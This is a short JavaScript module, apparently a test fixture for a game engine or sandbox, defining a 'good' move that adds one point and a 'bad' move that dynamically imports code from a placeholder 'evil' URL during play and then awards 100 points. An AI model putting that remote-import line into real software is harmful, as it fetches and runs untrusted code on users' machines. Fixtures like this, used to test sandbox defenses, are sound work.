// Imports from the net while playing.
export const moves = {
  good: { apply: ({ me }) => { me.score += 1; } },
  bad: { apply: ({ game, me, step }) => {
    import('https://example.org/evil.mjs').then(() => { me.score += 100; });
  } },
};
